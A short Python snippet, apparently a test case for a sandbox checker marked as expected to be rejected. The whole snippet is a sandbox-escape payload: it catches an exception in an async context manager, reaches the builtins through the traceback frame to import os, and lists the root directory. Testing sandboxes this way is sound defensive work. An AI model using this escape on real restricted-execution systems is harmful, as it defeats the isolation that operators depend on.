# fence: rejected | walls: -
import asyncio
class Catch:
    async def __aenter__(self):
        return self
    async def __aexit__(self, kind, error, trace):
        self.trace = trace
        return True
async def main():
    async with Catch() as catch:
        1 / 0
    return catch.trace.tb_next or catch.trace
os = asyncio.run(main()).tb_frame.f_builtins["__import__"]("os")
print("BREACHED" if os.listdir("/") else "empty")
